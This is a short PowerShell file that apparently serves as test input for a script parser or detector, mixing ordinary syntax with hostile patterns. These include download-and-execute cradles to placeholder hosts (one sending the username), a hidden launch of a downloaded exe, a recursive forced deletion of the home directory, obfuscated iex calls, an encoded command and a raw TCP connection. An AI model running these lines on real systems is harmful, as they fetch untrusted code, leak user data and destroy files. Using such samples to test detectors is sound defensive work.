# c
param([string]$u = "http://x", $v)
$wc = New-Object Net.WebClient; $s = $wc.DownloadString('http://a.example/a')
IEX (New-Object System.Net.WebClient).DownloadString("http://b.example/$env:USERNAME")
iwr -Uri $u -OutFile $env:TEMP\a.exe -UseBasicParsing; Start-Process "$env:TEMP\a.exe" -WindowStyle Hidden
$b = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aGk="))
$x = -join ([char[]](104,105)) + ('{1}{0}' -f 'a','b').Replace('a','c')
if ($a -eq 1) { foo -A 1,2,3 } elseif ($b) { bar } else { baz }
foreach ($f in Get-ChildItem $home -Recurse) { Remove-Item $f.FullName -Force }
function Get-It([int]$n) { param($k) return $k + 1 }
Get-It 5 | % { $_.Name } | Out-File C:\x.txt
try { & $cmd /c dir } catch [System.Exception] { Write-Host "no" } finally { }
$h = @{ a = 1; 'b' = "x"; c = (ls) }
$env:PATH = "x"
$t = @"
hello $u $($wc.Foo())
"@
"iex" | iex
& ("i"+"ex") $t
. .\lib.ps1
.\run.exe a b > out.txt
while ($i -lt 3) { $i++ }
switch ($x) { 'a' { foo } default { bar } }
$r = [Net.Sockets.TcpClient]::new("1.2.3.4", 99)
powershell -e JABhAA==
[System.IO.File]::WriteAllBytes($p, $bytes)
